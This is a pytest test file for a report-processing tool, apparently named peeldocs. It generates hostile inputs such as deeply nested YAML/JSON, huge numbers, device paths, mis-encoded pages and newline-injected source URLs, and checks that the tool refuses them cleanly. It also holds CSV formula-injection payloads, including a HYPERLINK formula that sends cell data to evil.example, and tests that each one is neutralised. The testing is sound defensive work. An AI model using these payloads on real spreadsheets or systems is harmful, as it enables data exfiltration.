"""Hostile data files, themes and pages: refused at once naming the file and the limit (exit 1),
never an "internal error"; pages not in UTF-8 read by their real encoding, said so, or refused.

Every hostile input is generated here."""

from __future__ import annotations

from pathlib import Path

import pytest
from conftest import DATA

import peeldocs
from peeldocs.cli import main
from peeldocs.comparisons.grade_table import parse_grade_table
from peeldocs.errors import DataError
from peeldocs.resources import templates_root

HOSTILE_DATA = {
    "flow.yaml": "[" * 5000 + "]" * 5000,
    "block.yaml": "- " * 5000 + "x\n",
    "mapping.yaml": "a: " + "{a: " * 3000 + "1" + "}" * 3000,
    "deep.json": "[" * 100_000 + "]" * 100_000,
    "int.json": '{"force": ' + "9" * 5000 + "}",
    "int.yaml": "force: " + "9" * 5000 + "\n",
    "null.yaml": "null\n",
}
LIMIT = {"flow.yaml": "nested more than 64 levels deep", "block.yaml": "64 levels",
         "mapping.yaml": "64 levels", "deep.json": "64 levels",
         "int.json": "a number of 5000 characters; numbers in data files are limited to 40",
         "int.yaml": "limited to 40", "null.yaml": "expected a mapping of keys, got nothing"}


@pytest.mark.parametrize("name", HOSTILE_DATA)
def test_hostile_data_file_is_refused_naming_the_limit(name: str, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / name
    path.write_text(HOSTILE_DATA[name])
    with pytest.raises(DataError) as info:
        peeldocs.load_report(path)
    assert any(LIMIT[name] in str(p) and name in str(p) for p in info.value.problems), \
        info.value.problems
    assert main(["validate", str(path)]) == 1
    err = capsys.readouterr().err
    assert LIMIT[name] in err and "internal error" not in err and "Traceback" not in err


@pytest.mark.parametrize("command", [["validate"], ["build", "--out", "OUT"]])
def test_a_device_is_not_a_data_file(command: list[str], tmp_path: Path,
                                     capsys: pytest.CaptureFixture[str]) -> None:
    args = [a.replace("OUT", str(tmp_path)) for a in command]
    assert main([*args[:1], "/dev/zero", *args[1:]]) == 1
    err = capsys.readouterr().err
    assert "/dev/zero: not a regular file" in err and "internal error" not in err


def test_a_grade_table_cell_over_the_limit_is_refused_at_its_line() -> None:
    data = (b"force,cycle,pillar,question,grade\nKent,2017,effectiveness,,good\n"
            b"Kent,2017,efficiency,," + b"x" * 200_000 + b"\n")
    entries, problems = parse_grade_table(data, "g.csv")
    assert not entries
    assert [str(p) for p in problems] == [
        "g.csv:3: a cell is longer than 128 KB, the most a grade table cell may hold"]


@pytest.mark.parametrize(("line", "words"), [
    ('base_size: "big"', "base_size: expected a size from 4 to 96 points, got 'big'"),
    ("heading_sizes: []", "heading_sizes: expected a list of three sizes"),
    ("base_size: 100000", "base_size: expected a size from 4 to 96 points"),
    ("leading: -1", "leading: expected a line height"),
    ("font: [x]", "font: expected a name"),
])
def test_a_theme_with_values_a_renderer_cannot_use_is_refused(
        line: str, words: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    key = line.split(":")[0]
    default = (templates_root() / "themes" / "default.yaml").read_text()
    theme = tmp_path / "theme.yaml"
    theme.write_text("\n".join(line if t.startswith(f"{key}:") else t
                               for t in default.splitlines()))
    code = main(["build", str(DATA), "--out", str(tmp_path / "out"), "--format", "html",
                 "--theme", str(theme)])
    err = capsys.readouterr().err
    assert code == 1, err
    assert f"--theme: {theme}: {words}" in err and "internal error" not in err
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_a_theme_that_is_a_device_is_refused(tmp_path: Path,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["build", str(DATA), "--out", str(tmp_path), "--theme", "/dev/zero"])
    assert code == 1
    assert "/dev/zero: not a regular file" in capsys.readouterr().err


PAGE = ("Kent PEEL 2017\n\nEffectiveness\n\nHow effectively does the force reduce crime and keep "
        "people safe?\n\nGood\n\n1\n\nHow effectively does the force prevent crime?\n\nGood\n\n"
        "The force’s work is good. Café owners said so. Residents were “pleased” with it.\n")


@pytest.mark.parametrize(("encoding", "said"), [
    ("cp1252", "read as Windows-1252, the encoding charset detection found"),
    ("utf-16", "read as UTF-16 (its byte-order mark)"),
    ("utf-8-sig", None),
])
def test_a_page_is_read_in_its_real_encoding_and_says_so(
        encoding: str, said: str | None, tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    page = tmp_path / "page.txt"
    page.write_bytes(PAGE.encode(encoding))
    out = tmp_path / "kent.yaml"
    assert main(["import", str(page), "-o", str(out)]) == 0
    err = capsys.readouterr().err
    assert (said in err) if said else ("read as" not in err)
    text = out.read_text(encoding="utf-8")
    assert "The force’s work is good. Café owners said so. Residents were “pleased”" in text
    assert "\ufffd" not in text


def test_an_html_page_is_read_in_the_charset_it_declares(tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">'
            "</head><body>" + "".join(f"<p>{b}</p>" for b in PAGE.split("\n\n")) + "</body></html>")
    page = tmp_path / "page.html"
    page.write_bytes(html.encode("cp1252"))
    assert main(["import", str(page), "--summary"]) == 0
    assert "read as Windows-1252, as the page's charset says" in capsys.readouterr().err


def test_a_page_whose_encoding_cannot_be_told_is_refused(tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    page = tmp_path / "page.txt"
    page.write_bytes(PAGE.encode("utf-8")[:40] + bytes(range(0x80, 0x100)) * 3)
    assert main(["import", str(page), "--summary"]) == 1
    err = capsys.readouterr().err
    assert "page.txt: the page is not UTF-8 (byte 0x80 at offset 40)" in err
    assert "save it again as UTF-8" in err


def test_a_page_over_the_size_limit_is_refused_at_once(tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    page = tmp_path / "big.txt"
    with open(page, "wb") as fh:
        fh.truncate(17 * 1024 * 1024)  # sparse: nothing is written, nothing is read
    assert main(["import", str(page), "--summary"]) == 1
    assert "big.txt: the file is 17.0 MB; pages are limited to 16 MB" in capsys.readouterr().err
    with pytest.raises(peeldocs.importer.NotAPeelPageError, match="pages are limited to 16 MB"):
        peeldocs.importer.import_page("a" * (17 * 1024 * 1024))


@pytest.mark.parametrize("command", [["import", "--summary"], ["validate"]])
def test_a_folder_or_a_device_given_as_a_page_is_named(command: list[str], tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    assert main([command[0], str(tmp_path), *command[1:]]) == 1
    assert f"{tmp_path}: this is a folder, not a" in capsys.readouterr().err
    assert main([command[0], "/dev/zero", *command[1:]]) == 1
    assert "not a regular file" in capsys.readouterr().err


@pytest.mark.parametrize("source", ["https://e.example/x\npublished: 2001-01-01\nlicence: x\n#",
                                    "https://e.example/x\rpublished: 2001-01-01",
                                    "https://e.example/x\u2028published: 2001-01-01"])
def test_a_source_address_can_never_add_keys(source: str, tmp_path: Path,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    page = tmp_path / "page.txt"
    page.write_text(PAGE, encoding="utf-8")
    out = tmp_path / "kent.yaml"
    assert main(["import", str(page), "-o", str(out), "--source", source]) == 2
    assert "--source" in capsys.readouterr().err and not out.exists()


def test_a_source_address_is_quoted_in_the_header(tmp_path: Path) -> None:
    page = tmp_path / "page.txt"
    page.write_text(PAGE, encoding="utf-8")
    out = tmp_path / "kent.yaml"
    source = 'https://e.example/x?a="b"#published: 2001-01-01'
    assert main(["import", str(page), "-o", str(out), "--source", source]) == 0
    report = peeldocs.load_report(out)
    assert report.source_url == source and report.published is None


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]


def test_no_formula_reaches_a_csv_cell(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import csv
    import io

    import yaml

    plan = yaml.safe_load((Path(__file__).resolve().parent.parent / "examples" /
                           "norfolk-2018-action-plan.yaml").read_text(encoding="utf-8"))
    for item, formula in zip(plan["items"], FORMULAS, strict=False):  # from the user's plan
        item["owner"], item["lead"] = formula, formula
        for update in item.get("updates", []):
            update["text"] = formula
    data = yaml.safe_load(DATA.read_text(encoding="utf-8"))
    for question in data["questions"]:  # and from the report: a finding's own text
        for finding in question.get("areas_for_improvement", []):
            finding["text"] = FORMULAS[0]
    report = tmp_path / "norfolk.yaml"
    report.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    plan["report"] = str(report)
    plan_path = tmp_path / "plan.yaml"
    plan_path.write_text(yaml.safe_dump(plan, allow_unicode=True), encoding="utf-8")
    code = main(["actions", "status", str(plan_path), "--report", str(report), "--as-of",
                 "2019-10-15", "--published", "2019-05-02", "--format", "csv"])
    out, err = capsys.readouterr()
    assert code == 0, err
    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
    assert sum("HYPERLINK" in c for c in cells) >= 3  # the text is kept, as text
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("value", FORMULAS)
def test_every_formula_start_is_neutralised(value: str) -> None:
    from peeldocs.plans.register_table import csv_cell

    assert csv_cell(value) == "'" + value
    assert csv_cell("Plain text") == "Plain text" and csv_cell(-3) == "-3"


def _garbage(n: int, seed: int) -> bytes:
    import random

    rng = random.Random(seed)
    return bytes(rng.randrange(256) for _ in range(n))


ANY_INPUT = {
    "empty.yaml": b"", "garbage.yaml": _garbage(3000, 1), "deep.yaml": b"a: " + b"[" * 3000,
    "deep.json": b"{" * 3000, "bigint.json": b'{"a": 1' + b"0" * 5000 + b"}",
    "nul.yaml": b"force: \x00\n", "utf16.yaml": "force: x\n".encode("utf-16"),
    "cell.csv": b"force,cycle,pillar,question,grade\n\"" + b"x" * 200_000,
    "garbage.csv": _garbage(3000, 2), "nul.csv": b"force,cycle\nKent\x00,2017\n",
    "plan.yaml": b"items: " + b"[" * 3000, "null.yaml": b"~\n",
    "broken-plan.yaml": b"items:\n  - finding: x\n    status: [\n",
    "long-key.yaml": b"a" * 100_000 + b": 1\n", "alias.yaml": b"a: &x 1\nb: *x\n",
    "huge-float.yaml": b"a: 1e99999\n", "nan.json": b'{"a": NaN, "b": Infinity}',
}
COMMANDS = {
    "validate": ["validate", "IN"],
    "build": ["build", "IN", "--out", "OUT", "--format", "html"],
    "import": ["import", "IN", "--summary"],
    "export": ["export", "IN"],
    "compare": ["compare", "IN", "--out", "OUT", "--format", "html"],
    "actions status": ["actions", "status", "IN", "--report", str(DATA)],
    "actions init": ["actions", "init", str(DATA), "-o", "IN"],
    "export --plan": ["export", str(DATA), "--plan", "IN"],
    "--theme": ["build", str(DATA), "--out", "OUT", "--format", "html", "--theme", "IN"],
    "--actions": ["build", str(DATA), "--out", "OUT", "--format", "html", "--actions", "IN"],
}


SLOW = {"actions status", "actions init", "export --plan", "--theme", "--actions"}
"""Commands that load the Norfolk report first: given the inputs that reach their own reader."""
FOR_SLOW = ("empty.yaml", "garbage.yaml", "deep.yaml", "deep.json", "bigint.json", "utf16.yaml",
            "plan.yaml", "null.yaml", "broken-plan.yaml", "alias.yaml")


@pytest.mark.parametrize("command", COMMANDS)
def test_no_input_ends_in_an_internal_error(command: str, tmp_path: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    for name, data in ANY_INPUT.items():
        if command in SLOW and name not in FOR_SLOW:
            continue
        path = tmp_path / name
        path.write_bytes(data)
        args = [str(path) if a == "IN" else str(tmp_path / "out") if a == "OUT" else a
                for a in COMMANDS[command]]
        try:
            code = main(args)
        except SystemExit as exc:  # argparse's own usage errors
            code = int(exc.code or 0)
        err = capsys.readouterr().err
        assert code in (0, 1, 2), (name, code, err)
        assert "internal error" not in err and "Traceback" not in err, (name, err)
